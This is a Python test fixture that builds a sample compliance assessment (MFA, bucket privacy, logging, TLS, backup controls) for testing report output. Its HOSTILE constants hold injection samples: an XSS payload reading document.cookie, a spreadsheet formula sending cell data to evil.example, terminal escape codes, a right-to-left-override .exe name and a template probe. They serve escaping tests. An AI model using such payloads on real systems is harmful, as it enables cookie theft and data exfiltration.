"""A small assessment with everything that a report must be able to show.

Six controls, some sixty findings of every status, hostile and very long texts, gaps, waivers that
count and that do not. Built of the core's own types and roll-ups, so it is consistent.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from auditor.core.canonical import digest
from auditor.core.evaluate.plan import NotTested
from auditor.core.model.assessment import Assessment, LogHead, Reading
from auditor.core.model.control import Control
from auditor.core.model.finding import AssertionResult, Finding, Truth
from auditor.core.model.framework import Framework
from auditor.core.model.observation import Gap
from auditor.core.model.status import Cause, Severity, Status
from auditor.core.model.target import Target
from auditor.core.model.waiver import SignedWaiver, Waiver
from auditor.core.rollup import count, outcome, roll_up_controls, roll_up_requirements

NOW = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)
RUN = "20261120T060000Z-5f3a"
ACCOUNT = "123456789012"
ANSI = "\x1b[2J\x1b[31mall-clear\x07"
MARKUP = "<script>alert(document.cookie)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
OVERRIDE = "backup-\u202egpj.exe\u2066"
HEBREW = "גיבוי-ייצור"
LONG = f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/" + "/".join(
    f"a-very-long-path-element-{n:02d}" for n in range(7)
)
TEMPLATE = "{{ 7 * 7 }}{% raw %}"
HOSTILE = (ANSI, MARKUP, FORMULA, OVERRIDE, HEBREW, LONG, TEMPLATE)


def _control(control_id: str, title: str, statement: str, maps: object, **more: object) -> Control:
    checks = more.pop("checks", [("items", "aws.iam.user")])
    return Control.model_validate(
        {
            "id": control_id,
            "title": title,
            "statement": statement,
            "owner": {"role": more.get("owner", "head-of-platform")},
            "nature": {"type": "preventive", "execution": "automated"},
            "frequency": "continuous",
            "evaluate": {"every": "24h", "gap_tolerance": "6h"},
            "maps": maps,
            "checks": [_check(name, resource) for name, resource in checks],  # type: ignore[attr-defined]
        }
    )


def _check(name: str, resource: str) -> dict[str, object]:
    return {
        "id": name,
        "title": f"Each {resource.rpartition('.')[2]} is as it should be",
        "collector": resource.partition(".")[0],
        "resource": resource,
        "key": "resource.arn",
        "population": {"on_empty": "error"},
        "freshness": "24h",
        "assert": [
            {
                "id": "first",
                "expr": "resource.ok",
                "severity": "high",
                "message": "{resource.arn} is not as it should be",
            }
        ],
        "remediation": {"text": "Set it as the control says, and scan again."},
        "verify_by_hand": "aws iam get-user",
    }


CONTROLS = (
    _control(
        "console-mfa",
        "Every person who signs in has a second factor",
        "Every account of a person that can sign in at the console has a second factor.",
        {
            "soc2": [
                {"id": "CC6.1", "strength": "full"},
                {"id": "CC6.3", "strength": "partial", "gap": "does not show removal of access"},
            ],
            "iso27001": [{"id": "A.8.5", "strength": "full"}],
        },
        checks=[("console-users", "aws.iam.user"), ("root", "aws.iam.account_summary")],
    ),
    _control(
        "storage-private",
        "Stored objects are not public",
        "No bucket can be read by people outside of the organisation, by policy or by list.",
        {
            "soc2": [{"id": "CC6.1", "strength": "partial", "gap": "covers buckets only"}],
            "iso27001": [{"id": "A.8.3", "strength": "partial"}],
        },
        checks=[("buckets", "aws.s3.bucket")],
        owner="head-of-data",
    ),
    _control(
        "audit-log-integrity",
        "Audit logs are complete and protected",
        "Activity in every region is recorded, and the record cannot be changed unnoticed.",
        {
            "soc2": [{"id": "CC7.2", "strength": "full"}],
            "iso27001": [{"id": "A.8.15", "strength": "full"}],
        },
        checks=[("trails", "aws.cloudtrail.trail")],
    ),
    _control(
        "encryption-in-transit",
        "Connections are encrypted with current protocols",
        "Endpoints of the organisation accept TLS 1.2 and later with a certificate that is valid.",
        {"soc2": [{"id": "CC6.7", "strength": "full"}]},
        checks=[("endpoints", "tls.endpoint")],
        owner="head-of-network",
    ),
    _control(
        "restore-tests",
        "Backups are restored in tests",
        "Each quarter a backup of each production system is restored, and the data are compared.",
        {
            "soc2": [{"id": "A1.3", "strength": "full"}],
            "iso27001": [{"id": "A.8.13", "strength": "partial"}],
        },
        checks=[("records", "host.restore_record")],
    ),
    _control(
        "database-backups",
        "Managed databases are backed up",
        "Every managed database keeps automatic backups for at least the agreed time.",
        {"iso27001": [{"id": "A.8.13", "strength": "supporting"}]},
        checks=[("instances", "aws.rds.instance"), ("snapshots", "aws.rds.snapshot")],
    ),
    _control(
        "host-hardening",
        "Hosts refuse password sign-in",
        "No host accepts a password over the network, and root cannot sign in directly.",
        {"soc2": [{"id": "CC6.8", "strength": "supporting"}]},
        checks=[("sshd", "host.sshd")],
    ),
)
FRAMEWORKS = (
    Framework.model_validate(
        {
            "id": "soc2",
            "title": "SOC 2 trust services criteria",
            "publisher": "AICPA",
            "version": "sample",
            "id_pattern": r"^(CC[67]|A1)\.[1-9]$",
            "total": 7,
            "groups": [
                {"id": "CC6", "title": "Logical and physical access", "count": 4},
                {"id": "CC7", "title": "System operations", "count": 2},
                {"id": "A1", "title": "Availability", "count": 1},
            ],
            "requirements": [
                {"id": "CC6.1", "title": "Logical access is restricted", "group": "CC6"},
                {"id": "CC6.3", "title": "Access follows duties", "group": "CC6"},
                {"id": "CC6.7", "title": "Data in movement are protected", "group": "CC6"},
                {"id": "CC6.8", "title": "Malicious software is kept out", "group": "CC6"},
                {"id": "CC7.2", "title": "Anomalies are watched for", "group": "CC7"},
                {"id": "CC7.4", "title": "Incidents are responded to", "group": "CC7"},
                {"id": "A1.3", "title": "Recovery is tested", "group": "A1", "evidence": "hybrid"},
            ],
        }
    ),
    Framework.model_validate(
        {
            "id": "iso27001",
            "title": "ISO/IEC 27001 information security management",
            "publisher": "ISO/IEC",
            "version": "sample",
            "id_pattern": r"^A\.[5-8]\.[1-9][0-9]?$",
            "total": 5,
            "groups": [
                {"id": "A.5", "title": "Organisational controls", "count": 1},
                {"id": "A.8", "title": "Technological controls", "count": 4},
            ],
            "requirements": [
                {"id": "A.5.1", "title": "Policies for information security", "group": "A.5"},
                {"id": "A.8.3", "title": "Access to information is limited", "group": "A.8"},
                {"id": "A.8.5", "title": "Secure authentication", "group": "A.8"},
                {"id": "A.8.13", "title": "Backup of information", "group": "A.8"},
                {"id": "A.8.15", "title": "Logging", "group": "A.8"},
            ],
        }
    ),
)
TARGETS = (
    Target("aws-prod", "aws-account", "prod", {"team": "core"}, {"profile": "audit"}),
    Target("web", "tls-endpoint", "prod"),
    Target("build-host", "host", "staging"),
)


def _arn(kind: str, name: str) -> str:
    return f"arn:aws:{kind}::{ACCOUNT}:{name}"


def _finding(control: str, check: str, key: str, status: Status, **more: object) -> Finding:
    severity = more.pop("severity", Severity.HIGH)
    types = {c.id: {k.id: k.resource for k in c.checks} for c in CONTROLS}
    base = Finding(
        control=control,
        check=check,
        target=str(more.pop("target", "aws-prod")),
        key=key,
        status=status,
        severity=severity,  # type: ignore[arg-type]
        environment="prod",
        resource_type=types[control][check],
        pointer="/resources/0" if key else "",
    )
    return replace(base, **more)  # type: ignore[arg-type]


def _asserted(truth: Truth, detail: str = "") -> tuple[AssertionResult, ...]:
    return (AssertionResult("first", truth, Severity.HIGH, detail),)


def _mfa() -> list[Finding]:
    passing = [
        _finding(
            "console-mfa",
            "console-users",
            _arn("iam", f"user/person-{n:02d}"),
            Status.PASS,
            assertions=_asserted("true"),
            uid=f"AIDA{n:08d}",
            pointer=f"/resources/{n}",
        )
        for n in range(14)
    ]
    failing = [
        _finding(
            "console-mfa",
            "console-users",
            _arn("iam", f"user/{name}"),
            Status.FAIL,
            severity=severity,
            reason=f"{_arn('iam', f'user/{name}')} has a console password and no second factor",
            assertions=_asserted("false", "no second factor"),
            pointer=f"/resources/{20 + n}",
        )
        for n, (name, severity) in enumerate(
            [("alice", Severity.HIGH), ("bob", Severity.HIGH), ("legacy", Severity.CRITICAL)]
            + [(text, Severity.MEDIUM) for text in HOSTILE]
        )
    ]
    skipped = _finding(
        "console-mfa",
        "console-users",
        _arn("iam", "user/robot"),
        Status.NOT_APPLICABLE,
        reason="not applicable: `resource.password_enabled` is false",
    )
    waived = _finding(
        "console-mfa",
        "console-users",
        _arn("iam", "user/break-glass"),
        Status.WAIVED,
        reason="break-glass has no second factor [waiver W-2026-07 until 2026-12-31T00:00:00Z]",
        waiver="W-2026-07",
    )
    refused = _finding(
        "console-mfa",
        "console-users",
        _arn("iam", "user/contractor"),
        Status.FAIL,
        reason="contractor has no second factor "
        "[waiver W-2025-11 not honoured: it expired at 2026-05-31T00:00:00Z]",
        waiver="W-2025-11",
    )
    return [*passing, *failing, skipped, waived, refused]


def _buckets() -> list[Finding]:
    denied = [
        _finding(
            "storage-private",
            "buckets",
            _arn("s3", f"example-{name}"),
            Status.ERROR,
            reason="field `policy` was not read: AccessDenied on GetBucketPolicy",
            cause=Cause.DENIED,
            action="s3:GetBucketPolicy",
            hint="add the permission to the reader's role",
        )
        for name in ("archive", "billing", "logs", "media", "uploads")
    ]
    region = _finding(
        "storage-private",
        "buckets",
        "eu-south-1",
        Status.ERROR,
        reason="could not be read: the region did not answer within 30 s",
        cause=Cause.TIMEOUT,
        action="s3:ListAllMyBuckets",
        hint="scan again",
    )
    public = _finding(
        "storage-private",
        "buckets",
        _arn("s3", "example-website-assets-of-the-spring-campaign"),
        Status.FAIL,
        severity=Severity.CRITICAL,
        reason="everybody may read it; not decided: field `acl` was not read",
        assertions=(
            *_asserted("false", "everybody may read it"),
            AssertionResult("list", "undecided", Severity.HIGH, "field `acl` was not read"),
        ),
    )
    good = [
        _finding("storage-private", "buckets", _arn("s3", f"private-{n}"), Status.PASS)
        for n in range(8)
    ]
    return [*denied, region, public, *good]


def _others() -> list[Finding]:
    trail = _finding(
        "audit-log-integrity",
        "trails",
        "",
        Status.ERROR,
        reason="the evidence is of 2026-11-17T06:00:00Z, older than the 24h that the check allows",
        cause=Cause.STALE,
        hint="scan again",
        severity=Severity.CRITICAL,
    )
    endpoints = [
        _finding("encryption-in-transit", "endpoints", f"{name}:443", Status.PASS, target="web")
        for name in ("shop.example.org", "api.example.org", "www.example.org")
    ]
    restored = _finding(
        "restore-tests",
        "records",
        "orders-database/2026-Q4",
        Status.MANUAL,
        target="build-host",
        reason="waits for the attestation of head-of-platform",
    )
    empty = _finding(
        "database-backups",
        "instances",
        "",
        Status.NOT_APPLICABLE,
        reason="0 items: nothing to judge",
    )
    return [trail, *endpoints, restored, empty]


NOT_TESTED = (
    NotTested(
        "console-mfa", "root", "scope `target.environment == 'lab'` is false for every target"
    ),
    NotTested("database-backups", "snapshots", "no target of kind aws-backup"),
    NotTested("host-hardening", "sshd", "no target is in its scope"),
)


def _waiver(waiver_id: str, check: str, days: int, signature: str = "valid") -> SignedWaiver:
    waiver = Waiver(
        id=waiver_id,
        check=check,
        match='resource.name == "break-glass"',
        environments=("prod",),
        reason="Sealed account for emergencies, its password is split in two halves",
        risk="sign-in without a second factor",
        compensating=("alarm on every sign-in", "two people hold one half each"),
        requested_by="head-of-platform",
        approved_by="ciso",
        approved_at=NOW - timedelta(days=60),
        expires=NOW + timedelta(days=days),
        max_items=1,
    )
    return SignedWaiver(waiver, signature, digest(waiver_id.encode()))


WAIVERS = (
    _waiver("W-2026-07", "console-mfa/console-users", 41),
    _waiver("W-2025-11", "console-mfa/console-users", -10),
    _waiver("W-2026-09", "storage-private/buckets", 90, "no key of this approver is trusted"),
    _waiver("W-2026-12", "encryption-in-transit/endpoints", 12),
)


def _reading(target: str, resource_type: str, items: int, *gaps: Gap) -> Reading:
    return Reading(
        target=target,
        resource_type=resource_type,
        title=resource_type.rpartition(".")[2],
        identity=f"arn:aws:sts::{ACCOUNT}:assumed-role/auditor/scan" if "aws" in target else target,
        read_at=NOW + timedelta(minutes=1),
        as_of=NOW,
        items=items,
        calls=max(1, items // 4),
        digest=digest(f"{target}/{resource_type}".encode()),
        gaps=gaps,
    )


READINGS = (
    _reading("aws-prod", "aws.cloudtrail.trail", 2),
    _reading("aws-prod", "aws.iam.user", 27),
    _reading("aws-prod", "aws.rds.instance", 0),
    _reading(
        "aws-prod",
        "aws.s3.bucket",
        14,
        Gap(
            Cause.TIMEOUT,
            "the region did not answer within 30 s",
            "eu-south-1",
            "s3:ListAllMyBuckets",
            "scan again",
        ),
    ),
    _reading("build-host", "host.restore_record", 1),
    _reading("web", "tls.endpoint", 3),
)
LOG = LogHead(
    origin="Example Ltd/auditor-log",
    size=412,
    root="q4Z8zNnYb0mZJ3n3S2mC1sQe4jvXo2o0r2x3y9bU3rA=",
    first=401,
    last=411,
    statement=digest(b"statement"),
    signer="run-2026 (ecdsa-p256)",
    timestamped=False,
)


def sample(
    frameworks: Sequence[Framework] = FRAMEWORKS,
    findings: Sequence[Finding] | None = None,
    **changes: object,
) -> Assessment:
    """The assessment; `changes` replace fields of it."""
    own = sorted(findings if findings is not None else _all(), key=lambda f: f.order)
    controls = roll_up_controls(CONTROLS, own, NOT_TESTED)
    base = Assessment(
        run=RUN,
        now=NOW,
        finished_at=NOW + timedelta(minutes=3, seconds=12),
        organisation="Example Ltd & <Partners>",
        tool="auditor 0.1.0",
        engine="cel-expr-python 0.1.3",
        outcome=outcome(own),
        counts=count(own),
        targets=TARGETS,
        frameworks=tuple(frameworks),
        controls=controls,
        requirements=roll_up_requirements(frameworks, controls),
        findings=tuple(own),
        not_tested=NOT_TESTED,
        readings=READINGS,
        waivers=WAIVERS,
        policy_digest=digest(b"policy"),
        verdicts_digest=digest(b"verdicts"),
        log=LOG,
    )
    return replace(base, **changes)  # type: ignore[arg-type]


def _all() -> list[Finding]:
    return [*_mfa(), *_buckets(), *_others()]


def failing(number: int) -> list[Finding]:
    """That many failing findings of one control."""
    return [
        _finding(
            "console-mfa",
            "console-users",
            _arn("iam", f"user/u{n:05d}"),
            Status.FAIL,
            reason=f"user u{n:05d} has no second factor",
        )
        for n in range(number)
    ]
